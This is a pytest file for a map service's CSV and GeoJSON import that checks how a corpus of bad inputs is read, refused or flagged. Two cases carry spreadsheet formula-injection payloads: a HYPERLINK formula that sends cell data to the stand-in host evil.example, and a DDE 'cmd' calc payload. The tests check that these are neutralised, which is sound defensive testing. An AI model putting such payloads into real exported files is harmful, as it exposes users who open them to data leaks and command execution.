"""What each import-csv and import-geojson row of the corpus of bad inputs means here."""

import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mapsvc.domain.csv_safety import neutralise, restore
from mapsvc.errors import UnreadableFile
from mapsvc.intake.readers import read_table
from tests.conftest import real_file
from tests.intake.make import Reading, a_file, read

Check = Callable[[Reading], None]

# Shown elsewhere, with the reason.
ELSEWHERE = {
    "CSV-031": "test_limits.py: needs a process of its own to measure",
    "CSV-033": "the importing service tells duplicates; reading gives both rows",
}


def hosts(*expected: tuple[float, float] | None, name: str | None = None) -> Check:
    def check(got: Reading) -> None:
        assert [host.position for host in got.hosts] == list(expected)
        assert got.reasons == []
        if name is not None:
            assert [host.name for host in got.hosts] == [name]

    return check


def fault(reason: str, *, column: str | None = None) -> Check:
    def check(got: Reading) -> None:
        assert got.hosts == []
        assert len(got.reasons) == 1
        assert reason in got.reasons[0]
        if column is not None:
            assert got.faults[0].column == column

    return check


def said(words: str, then: Check) -> Check:
    def check(got: Reading) -> None:
        then(got)
        assert any(words in message for message in got.messages), got.messages

    return check


def keeps_roles_private(got: Reading) -> None:
    hosts((7.75, 48.58))(got)
    assert got.hosts[0].private == {"owner_id": "1", "is_verified": "true", "role": "admin"}


STRASBOURG = (7.75, 48.58)
CASES: dict[str, Check] = {
    "CSV-001": hosts(STRASBOURG, name='=HYPERLINK("http://evil.example/?"&A1)'),
    "CSV-002": hosts(STRASBOURG, name="+33123456789"),
    "CSV-003": hosts(STRASBOURG, name="-2+3+cmd|' /C calc'!A0"),
    "CSV-006": hosts(STRASBOURG, name="=1+1"),
    "CSV-008": said("decimal comma", hosts(STRASBOURG)),
    "CSV-009": fault("is not a finite number", column="lat"),
    "CSV-011": fault("is not a finite number", column="lat"),
    "CSV-015": hosts(None),
    "CSV-016": fault("projected metres (EPSG:2154/3857"),
    "CSV-017": hosts(STRASBOURG),
    "CSV-018": fault("is not a finite number", column="lat"),
    "CSV-019": fault("is not a finite number", column="lat"),
    "CSV-021": hosts(STRASBOURG, name="A"),
    "CSV-022": said("decimal comma", hosts(STRASBOURG, name="École")),
    "CSV-023": said("Windows-1252", hosts(STRASBOURG, name="École")),
    "CSV-028": fault("too few columns"),
    "CSV-029": fault("not in host|alumni|kit", column="type"),
    "CSV-030": keeps_roles_private,
    "GEO-001": hosts(STRASBOURG, name="A"),
    "GEO-002": said("swapped?", hosts((48.58, 7.75))),
    "GEO-008": fault("empty point"),
    "GEO-009": said("dropped", hosts(STRASBOURG)),
    "GEO-010": fault("numbers expected"),
}
REFUSED = {
    "CSV-024": "only a header",
    "CSV-026": "Line 2 opens a quotation mark",
    "CSV-034": "empty file",
    "GEO-003": "not valid JSON",
    "GEO-015": "not valid JSON",
    "GEO-019": "duplicate key",
}
# A bare geometry has no name, so that no host can come of it; it is read all the same.
POINTS = {"GEO-007": (0.0, 90.0), "GEO-020": (7.751234567890123456789, 48.581234567890123456)}
NO_POINTS = {"GEO-014": "Point expected", "GEO-017": "Point expected"}


def rows() -> dict[str, Any]:
    listed = map(json.loads, real_file("corpus/bad_inputs.jsonl").read_text("utf-8").splitlines())
    return {row["id"]: row for row in listed if row["surface"] in {"import-csv", "import-geojson"}}


def file_of(row: Any, folder: Path) -> Path:
    given = row["input"]
    content: str | bytes = given if isinstance(given, str) else b""
    if isinstance(given, dict) and "bytes_hex" in given:
        content = bytes.fromhex(given["bytes_hex"])
    elif isinstance(given, dict) and "nested_json_depth" in given:
        content = given["open"] * given["nested_json_depth"] + given["close"] * given["nested_json_depth"]
    suffix = ".csv" if row["surface"] == "import-csv" else ".geojson"
    return a_file(folder, content, f"bad{suffix}")


def test_every_row_has_a_case_or_a_reason() -> None:
    assert set(rows()) == {*CASES, *REFUSED, *POINTS, *NO_POINTS, *ELSEWHERE}


@pytest.mark.parametrize("case", CASES)
def test_a_row_of_the_corpus_is_read_as_expected(case: str, tmp_path: Path) -> None:
    CASES[case](read(file_of(rows()[case], tmp_path)))


@pytest.mark.parametrize("case", REFUSED)
def test_a_file_of_the_corpus_is_refused_at_once(case: str, tmp_path: Path) -> None:
    path = file_of(rows()[case], tmp_path)
    start = time.perf_counter()

    with pytest.raises(UnreadableFile) as caught:
        read(path)

    assert REFUSED[case] in str(caught.value)
    assert time.perf_counter() - start < 1


@pytest.mark.parametrize("case", POINTS)
def test_a_bare_point_of_the_corpus_is_read(case: str, tmp_path: Path) -> None:
    table = read_table(file_of(rows()[case], tmp_path))

    assert [row.point for row in table.rows] == [POINTS[case]]


@pytest.mark.parametrize("case", NO_POINTS)
def test_another_geometry_of_the_corpus_is_a_fault(case: str, tmp_path: Path) -> None:
    table = read_table(file_of(rows()[case], tmp_path))

    assert table.rows == []
    assert [NO_POINTS[case] in fault.message for fault in table.faulty] == [True]


@pytest.mark.parametrize("case", ["CSV-001", "CSV-002", "CSV-003", "CSV-006"])
def test_formulas_are_neutralised_and_come_back(case: str, tmp_path: Path) -> None:
    name = read(file_of(rows()[case], tmp_path)).hosts[0].name

    assert neutralise(name) == f"'{name}"
    assert restore(neutralise(name)) == name


def test_coordinates_are_kept_to_seven_decimals(tmp_path: Path) -> None:
    point = json.loads(rows()["GEO-020"]["input"])
    feature = {"type": "Feature", "properties": {"name": "A"}, "geometry": point}

    got = read(a_file(tmp_path, json.dumps(feature), "a.geojson"))

    assert got.hosts[0].position == (7.7512346, 48.5812346)


def test_a_pole_is_a_place(tmp_path: Path) -> None:
    feature = {
        "type": "Feature",
        "properties": {"name": "A"},
        "geometry": {"type": "Point", "coordinates": [0, 90]},
    }

    got = read(a_file(tmp_path, json.dumps(feature), "a.geojson"))

    assert got.hosts[0].position == (0.0, 90.0)
